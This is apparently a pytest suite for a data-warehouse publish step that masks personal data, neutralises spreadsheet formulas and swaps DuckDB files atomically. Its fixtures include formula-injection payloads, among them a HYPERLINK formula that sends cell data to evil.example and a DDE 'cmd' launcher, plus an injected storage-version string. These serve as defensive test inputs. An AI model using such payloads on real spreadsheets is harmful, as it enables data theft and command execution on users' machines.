"""The published BI copy: marts only, personal data masked, formulas neutralised, replaced atomically."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import duckdb
import pytest

from orchestration.publish import DEFAULT_SALT, publish

FORMULAS = {  # value in the warehouse -> value expected in the published copy
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd": "'-2+3+cmd",
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-": "'-",
    "-12.5": "-12.5",       # plain numbers stay as they are
    "+1e5": "+1e5",
    "-.5": "-.5",
    "plain text = fine": "plain text = fine",
    "": "",
    "émile=1+1": "émile=1+1",  # a multi-byte first character is not a formula start
}


def build_warehouse(path: Path, run_id: str = "run-1", customers: int = 5) -> None:
    """A warehouse with marts plus raw/staging/ops tables that must not be published."""
    con = duckdb.connect(str(path))
    try:
        for schema in ("raw", "staging", "ops", "marts"):
            con.execute(f"DROP SCHEMA IF EXISTS {schema} CASCADE")
            con.execute(f"CREATE SCHEMA {schema}")
        con.execute("CREATE TABLE raw.crm_contacts AS SELECT 'secret@example.com' AS email")
        con.execute("CREATE TABLE ops.load_manifest AS SELECT 1 AS load_id")
        con.execute("CREATE VIEW staging.stg_contacts AS SELECT * FROM raw.crm_contacts")
        con.execute("""
            CREATE TABLE marts.customer_360 AS
            SELECT i AS customer_id,
                   'user' || i || '@example.com' AS email,
                   '1555' || lpad(i::VARCHAR, 7, '0') AS phone,
                   'First' || i AS first_name,
                   'Last' || i AS last_name,
                   CASE WHEN i % 2 = 0 THEN 'high_value' ELSE 'prospect' END AS segment,
                   i * 10.5 AS revenue,
                   $run_id AS run_id
            FROM range($n) AS t(i)""", {"run_id": run_id, "n": customers})
        con.execute("""
            CREATE TABLE marts.nps_monthly AS
            SELECT DATE '2024-01-01' + INTERVAL (m) MONTH AS response_month, 'all' AS dimension,
                   'all' AS dimension_value, 10 + m AS responses, 40.0 + m AS nps,
                   $run_id AS run_id, $n AS expected_customers
            FROM range(12) AS t(m)""", {"run_id": run_id, "n": customers})
        con.execute("CREATE TABLE marts.survey_responses (response_id VARCHAR, comment VARCHAR)")
        con.executemany("INSERT INTO marts.survey_responses VALUES (?, ?)",
                        [[f"r{i}", value] for i, value in enumerate(FORMULAS)] + [["r-null", None]])
        con.execute("COMMENT ON TABLE marts.customer_360 IS 'One row per customer.'")
        con.execute("COMMENT ON COLUMN marts.customer_360.email IS 'Primary email'")
    finally:
        con.close()


@pytest.fixture
def isolated(tmp_path, monkeypatch):
    """Paths plus no project-level publish_pii.yml, dbt manifest or salt leaking into the test."""
    monkeypatch.delenv("CXW_PII_SALT", raising=False)
    monkeypatch.delenv("CXW_PUBLISH_STORAGE_VERSION", raising=False)
    monkeypatch.setenv("CXW_PUBLISH_PII_FILE", str(tmp_path / "absent_publish_pii.yml"))
    warehouse = tmp_path / "warehouse.duckdb"
    build_warehouse(warehouse)
    return {"warehouse": warehouse, "out": tmp_path / "published", "manifest": tmp_path / "no_manifest.json",
            "tmp": tmp_path}


def read(path: Path, sql: str, params=None):
    con = duckdb.connect(str(path), read_only=True)
    try:
        return con.execute(sql, params).fetchall()
    finally:
        con.close()


def sha(value: str, salt: str = DEFAULT_SALT) -> str:
    return hashlib.sha256((salt + value).encode()).hexdigest()


def test_publishes_only_the_marts_with_row_counts_parquet_and_manifest(isolated):
    result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])

    db = isolated["out"] / "cx_marts.duckdb"
    assert result.database == db and db.exists()
    tables = read(db, "SELECT schema_name, table_name FROM duckdb_tables() ORDER BY ALL")
    assert tables == [("marts", "customer_360"), ("marts", "nps_monthly"), ("marts", "survey_responses")]
    assert read(db, "SELECT count(*) FROM duckdb_views() WHERE NOT internal") == [(0,)]
    assert result.row_counts == {"customer_360": 5, "nps_monthly": 12, "survey_responses": len(FORMULAS) + 1}

    for table, rows in result.row_counts.items():
        parquet = isolated["out"] / "parquet" / f"{table}.parquet"
        assert result.parquet_files[table] == parquet
        assert read(db, "SELECT count(*) FROM read_parquet(?)", [str(parquet)]) == [(rows,)]
    # The Parquet copy is masked like the database.
    assert read(db, "SELECT count(*) FROM read_parquet(?) WHERE email LIKE '%@%'",
                [str(result.parquet_files["customer_360"])]) == [(0,)]

    manifest = json.loads((isolated["out"] / "manifest.json").read_text())
    assert manifest["run_id"] == result.run_id and manifest["published_at"] == result.published_at
    assert {t: v["rows"] for t, v in manifest["tables"].items()} == result.row_counts
    assert manifest["tables"]["customer_360"]["schema_version"] == 1
    assert manifest["pii"]["salt"] == "default (public)"
    assert result.seconds > 0
    # No temporary file left behind.
    leftovers = [p.name for p in isolated["out"].rglob(".*") if p.name != ".publish.lock"]
    assert leftovers == []
    # dbt descriptions survive, with a note on masked columns.
    assert read(db, "SELECT comment FROM duckdb_tables() WHERE table_name = 'customer_360'") == [
        ("One row per customer.",)]
    assert read(db, "SELECT comment FROM duckdb_columns() WHERE table_name = 'customer_360' "
                    "AND column_name = 'email'")[0][0].startswith("Primary email. Published as a salted sha256")


def test_logs_a_line_per_mart_with_its_seconds_and_writes_zstd_parquet(isolated, caplog):
    progress: list[str] = []
    with caplog.at_level("INFO", logger="cxw.publish"):
        result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"],
                         progress=progress.append)
    lines = [r.getMessage() for r in caplog.records if r.getMessage().startswith("published ")]
    assert lines[:-1] == progress and len(progress) == len(result.row_counts)  # the log's last: the total
    for table, rows in result.row_counts.items():
        pii = sum(1 for column in result.pii_columns if column.startswith(f"marts.{table}."))
        (line,) = [x for x in lines if x.startswith(f"published {table} ")]
        assert f"({rows:,} rows, {pii} PII columns): copy " in line and "s, parquet " in line
    assert any(f"({n:,} rows, 4 PII columns)" in x for x in lines for n in [result.row_counts["customer_360"]])
    codecs = read(isolated["out"] / "cx_marts.duckdb", "SELECT DISTINCT compression FROM parquet_metadata(?)",
                  [str(result.parquet_files["customer_360"])])
    assert codecs == [("ZSTD",)]


def test_publish_puts_back_duckdbs_insertion_order_setting(isolated):
    """preserve_insertion_order is global to a DuckDB instance: publish turns it off for its writes, and
    another connection to the warehouse in the same process must find it as it was afterwards."""
    from ingest.warehouse import connect

    other = connect(isolated["warehouse"], read_only=True)  # the same instance as publish's connection
    try:
        for before in (True, False):
            other.execute(f"SET preserve_insertion_order = {before}")
            publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
            assert other.execute("SELECT current_setting('preserve_insertion_order')").fetchone() == (before,)
    finally:
        other.close()


def test_warehouse_connections_draw_no_progress_bar(tmp_path):
    from ingest.warehouse import connect

    con = connect(tmp_path / "w.duckdb")
    try:
        assert con.execute("SELECT current_setting('enable_progress_bar')").fetchone() == (False,)
    finally:
        con.close()


def test_a_mart_that_is_a_view_is_published_as_a_table_with_its_descriptions(isolated):
    # customer_identity_map is a dbt view (it repeats an intermediate table); BI still gets a table.
    con = duckdb.connect(str(isolated["warehouse"]))
    try:
        con.execute("CREATE VIEW marts.customer_identity_map AS "
                    "SELECT customer_id, email, 'crm' AS source_system FROM marts.customer_360")
        con.execute("COMMENT ON VIEW marts.customer_identity_map IS 'One row per source record.'")
        con.execute("COMMENT ON COLUMN marts.customer_identity_map.email IS 'Email on the record'")
    finally:
        con.close()
    result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])

    db = result.database
    assert read(db, "SELECT table_name, comment FROM duckdb_tables() WHERE table_name = 'customer_identity_map'"
                ) == [("customer_identity_map", "One row per source record.")]
    assert read(db, "SELECT count(*) FROM duckdb_views() WHERE NOT internal") == [(0,)]
    assert result.row_counts["customer_identity_map"] == 5
    assert read(db, "SELECT count(*) FROM marts.customer_identity_map WHERE email LIKE '%@%'") == [(0,)]
    assert read(db, "SELECT email FROM marts.customer_identity_map WHERE customer_id = 3") == [
        (sha("user3@example.com"),)]
    assert read(db, "SELECT comment FROM duckdb_columns() WHERE table_name = 'customer_identity_map' "
                    "AND column_name = 'email'")[0][0].startswith("Email on the record. Published as a salted")


def test_schema_version_bumps_only_when_columns_change(isolated):
    publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    tables = json.loads((isolated["out"] / "manifest.json").read_text())["tables"]
    assert tables["nps_monthly"]["schema_version"] == 1
    con = duckdb.connect(str(isolated["warehouse"]))
    con.execute("ALTER TABLE marts.nps_monthly ADD COLUMN detractors INTEGER")
    con.close()
    publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    tables = json.loads((isolated["out"] / "manifest.json").read_text())["tables"]
    assert tables["nps_monthly"]["schema_version"] == 2
    assert tables["customer_360"]["schema_version"] == 1


def test_pii_is_hashed_and_nulled_by_default(isolated):
    result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    rows = read(result.database, "SELECT customer_id, email, phone, first_name, last_name, segment "
                                 "FROM marts.customer_360 ORDER BY customer_id")
    for customer_id, email, phone, first_name, last_name, segment in rows:
        assert email == sha(f"user{customer_id}@example.com")
        assert phone == sha(f"1555{customer_id:07d}")
        assert first_name is None and last_name is None
        assert segment in ("high_value", "prospect")  # everything else untouched
    # Distinct counts survive hashing.
    assert read(result.database, "SELECT count(DISTINCT email) FROM marts.customer_360") == [(5,)]
    assert result.pii_columns == {"marts.customer_360.email": "hash", "marts.customer_360.phone": "hash",
                                  "marts.customer_360.first_name": "mask", "marts.customer_360.last_name": "mask"}
    types = dict(read(result.database, "SELECT column_name, data_type FROM duckdb_columns() "
                                       "WHERE table_name = 'customer_360'"))
    assert types["first_name"] == "VARCHAR"


def test_salt_comes_from_the_environment(isolated, monkeypatch):
    monkeypatch.setenv("CXW_PII_SALT", "team-secret")
    result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    assert read(result.database, "SELECT email FROM marts.customer_360 WHERE customer_id = 1") == [
        (sha("user1@example.com", "team-secret"),)]
    assert result.warnings == []
    manifest_text = (isolated["out"] / "manifest.json").read_text()
    assert "team-secret" not in manifest_text


def test_pii_kept_or_dropped_when_configured(isolated):
    result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"],
                     pii={"marts.customer_360.email": "keep", "marts.customer_360.phone": "drop",
                          "marts.customer_360.first_name": "hash", "marts.*.segment": "mask"})
    columns = [r[0] for r in read(result.database, "SELECT column_name FROM duckdb_columns() "
                                                   "WHERE table_name = 'customer_360' ORDER BY column_index")]
    assert "phone" not in columns
    email, first_name, last_name, segment = read(
        result.database, "SELECT email, first_name, last_name, segment FROM marts.customer_360 "
                         "WHERE customer_id = 3")[0]
    assert email == "user3@example.com"
    assert first_name == sha("First3")
    assert last_name is None and segment is None


def test_pii_rules_from_yaml_file_and_dbt_manifest(isolated):
    rules = isolated["tmp"] / "publish_pii.yml"
    rules.write_text("columns:\n  marts.customer_360.email: keep\n  'marts.*.last_name': hash\n")
    manifest = isolated["tmp"] / "manifest.json"
    manifest.write_text(json.dumps({"nodes": {"model.x.survey_responses": {
        "resource_type": "model", "schema": "marts", "name": "survey_responses", "alias": "survey_responses",
        "columns": {"comment": {"name": "comment", "meta": {"pii": True}}}}}}))

    result = publish(isolated["warehouse"], isolated["out"], pii={"marts.customer_360.last_name": "keep"},
                     pii_file=rules, manifest_path=manifest)
    email, last_name = read(result.database, "SELECT email, last_name FROM marts.customer_360 "
                                             "WHERE customer_id = 2")[0]
    assert email == "user2@example.com"   # from the file
    assert last_name == "Last2"           # the argument wins over the file
    comments = read(result.database, "SELECT comment FROM marts.survey_responses WHERE response_id = 'r0'")
    assert comments == [(sha(next(iter(FORMULAS))),)]  # dbt meta pii: hashed

    rules.write_text("columns:\n  marts.customer_360.email: encrypt\n")
    with pytest.raises(ValueError, match="keep, hash, mask, drop"):
        publish(isolated["warehouse"], isolated["out"], pii_file=rules, manifest_path=isolated["manifest"])


def test_spreadsheet_formulas_are_neutralised(isolated):
    result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    published = dict(read(result.database, "SELECT response_id, comment FROM marts.survey_responses"))
    in_parquet = dict(read(result.database, "SELECT response_id, comment FROM read_parquet(?)",
                           [str(result.parquet_files["survey_responses"])]))
    for i, (original, expected) in enumerate(FORMULAS.items()):
        assert published[f"r{i}"] == expected, original
        assert in_parquet[f"r{i}"] == expected, original
    assert published["r-null"] is None


def test_older_storage_version_and_validation(isolated):
    result = publish(isolated["warehouse"], isolated["out"], storage_version="v1.0.0",
                     manifest_path=isolated["manifest"])
    header = result.database.read_bytes()[:20]
    assert header[8:12] == b"DUCK"
    assert int.from_bytes(header[12:20], "little") == 64  # the storage format DuckDB 0.10-1.1 read
    assert read(result.database, "SELECT count(*) FROM marts.customer_360") == [(5,)]
    assert json.loads(result.manifest.read_text())["storage_version"] == "v1.0.0"

    current = publish(isolated["warehouse"], isolated["tmp"] / "current", manifest_path=isolated["manifest"])
    assert int.from_bytes(current.database.read_bytes()[12:20], "little") > 64

    with pytest.raises(ValueError, match="storage_version"):
        publish(isolated["warehouse"], isolated["out"], storage_version="1.0'; DROP",
                manifest_path=isolated["manifest"])


@pytest.mark.skipif(not os.environ.get("CXW_TEST_OLD_DUCKDB"),
                    reason="set CXW_TEST_OLD_DUCKDB to a folder holding duckdb<2 (pip install --target DIR "
                           "'duckdb<2') to check an old driver reads the v1.0.0 file")
def test_old_duckdb_reads_a_v1_file(isolated):
    result = publish(isolated["warehouse"], isolated["out"], storage_version="v1.0.0",
                     manifest_path=isolated["manifest"])
    code = ("import duckdb, sys; c = duckdb.connect(sys.argv[1], read_only=True); "
            "print(duckdb.__version__, c.execute('select count(*) from marts.customer_360').fetchone()[0])")
    out = subprocess.run([sys.executable, "-c", code, str(result.database)], capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": os.environ["CXW_TEST_OLD_DUCKDB"]}, check=True)
    version, rows = out.stdout.split()
    assert version.startswith(("0.", "1.")) and rows == "5"


def test_failed_publish_leaves_previous_version_and_no_temp_files(isolated):
    first = publish(isolated["warehouse"], isolated["out"], run_id="good", manifest_path=isolated["manifest"])
    with pytest.raises(ValueError, match="every column"):
        publish(isolated["warehouse"], isolated["out"], run_id="bad", manifest_path=isolated["manifest"],
                pii={"marts.nps_monthly.*": "drop"})
    assert read(first.database, "SELECT DISTINCT run_id FROM marts.customer_360") == [("run-1",)]
    assert json.loads(first.manifest.read_text())["run_id"] == "good"
    assert sorted(p.name for p in isolated["out"].rglob("*")) == sorted(
        [".publish.lock", "cx_marts.duckdb", "manifest.json", "parquet", "customer_360.parquet",
         "nps_monthly.parquet", "survey_responses.parquet"])


def test_missing_warehouse_is_a_clear_error(tmp_path):
    with pytest.raises(FileNotFoundError, match="run the pipeline"):
        publish(tmp_path / "nope.duckdb", tmp_path / "out")


def test_dropped_mart_disappears_from_parquet(isolated):
    publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    con = duckdb.connect(str(isolated["warehouse"]))
    con.execute("DROP TABLE marts.survey_responses")
    con.close()
    result = publish(isolated["warehouse"], isolated["out"], manifest_path=isolated["manifest"])
    assert sorted(p.name for p in (isolated["out"] / "parquet").iterdir()) == [
        "customer_360.parquet", "nps_monthly.parquet"]
    assert set(result.row_counts) == {"customer_360", "nps_monthly"}


READER = textwrap.dedent("""
    import json, os, random, sys, time
    import duckdb

    path, stop = sys.argv[1], sys.argv[2]
    reads, errors, seen = 0, [], {}
    print("ready", flush=True)
    while not os.path.exists(stop):
        try:
            con = duckdb.connect(path, read_only=True)
            try:
                # Two queries on one connection, with a pause between them: a publish may replace the
                # file meanwhile, and the second query must still see the snapshot the first one saw.
                a = con.execute("SELECT min(run_id), max(run_id), count(*), sum(customer_id) "
                                "FROM marts.customer_360").fetchone()
                time.sleep(random.random() * 0.02)
                b = con.execute("SELECT min(run_id), max(run_id), count(*), max(expected_customers) "
                                "FROM marts.nps_monthly").fetchone()
            finally:
                con.close()
        except Exception as exc:
            errors.append(f"{type(exc).__name__}: {exc}")
            continue
        reads += 1
        n = b[3]
        if not (a[0] == a[1] == b[0] == b[1] and a[2] == n and a[3] == n * (n - 1) // 2 and b[2] == 12):
            errors.append(f"inconsistent snapshot: {a} {b}")
        seen[a[0]] = seen.get(a[0], 0) + 1
    print(json.dumps({"reads": reads, "errors": errors[:20], "error_count": len(errors), "seen": seen}),
          flush=True)
""")


def test_readers_never_see_a_partial_file_while_publishing(isolated):
    out = isolated["out"]
    build_warehouse(isolated["warehouse"], run_id="run-0", customers=11)
    first = publish(isolated["warehouse"], out, run_id="run-0", manifest_path=isolated["manifest"])
    stop = isolated["tmp"] / "stop-reader"
    readers = [subprocess.Popen([sys.executable, "-c", READER, str(first.database), str(stop)],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    try:
        for reader in readers:
            assert reader.stdout.readline().strip() == "ready"
        time.sleep(0.3)
        published = ["run-0"]
        for k in range(1, 6):
            run_id = f"run-{k}"
            # The pipeline rewrites the warehouse, then publishes it (different sizes each time).
            build_warehouse(isolated["warehouse"], run_id=run_id, customers=20_000 * k + 7)
            result = publish(isolated["warehouse"], out, run_id=run_id, manifest_path=isolated["manifest"])
            assert result.row_counts["customer_360"] == 20_000 * k + 7
            published.append(run_id)
            time.sleep(0.15)
    finally:
        stop.touch()
        outputs = [reader.communicate(timeout=60) for reader in readers]
    for (stdout, stderr), reader in zip(outputs, readers):
        assert reader.returncode == 0, stderr
        report = json.loads(stdout.strip().splitlines()[-1])
        assert report["error_count"] == 0, report["errors"]
        assert report["reads"] > 20
        assert set(report["seen"]) <= set(published)
        assert len(report["seen"]) >= 4, report["seen"]  # the readers really ran across the replacements
    assert read(out / "cx_marts.duckdb", "SELECT DISTINCT run_id FROM marts.customer_360") == [("run-5",)]


def test_opening_while_the_file_is_renamed_onto_never_fails(isolated):
    """Hammer the race itself: readers open the path in a tight loop while it is replaced ~400 times."""
    versions = []
    for k, customers in ((1, 101), (2, 2_003)):
        build_warehouse(isolated["warehouse"], run_id=f"run-{k}", customers=customers)
        versions.append(publish(isolated["warehouse"], isolated["tmp"] / f"v{k}", run_id=f"run-{k}",
                                manifest_path=isolated["manifest"]).database)
    target = isolated["out"] / "cx_marts.duckdb"
    target.parent.mkdir()
    shutil.copyfile(versions[0], target)
    stop = isolated["tmp"] / "stop-reader"
    readers = [subprocess.Popen([sys.executable, "-c", READER.replace("random.random() * 0.02", "0"),
                                 str(target), str(stop)],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    try:
        for reader in readers:
            assert reader.stdout.readline().strip() == "ready"
        deadline = time.monotonic() + 4
        replaced = 0
        while time.monotonic() < deadline:
            tmp = target.with_name(f".cx_marts.{replaced}.tmp.duckdb")
            shutil.copyfile(versions[replaced % 2], tmp)
            os.replace(tmp, target)
            replaced += 1
    finally:
        stop.touch()
        outputs = [reader.communicate(timeout=60) for reader in readers]
    assert replaced > 50
    for (stdout, stderr), reader in zip(outputs, readers):
        assert reader.returncode == 0, stderr
        report = json.loads(stdout.strip().splitlines()[-1])
        assert report["error_count"] == 0, report["errors"]
        assert set(report["seen"]) == {"run-1", "run-2"}, report
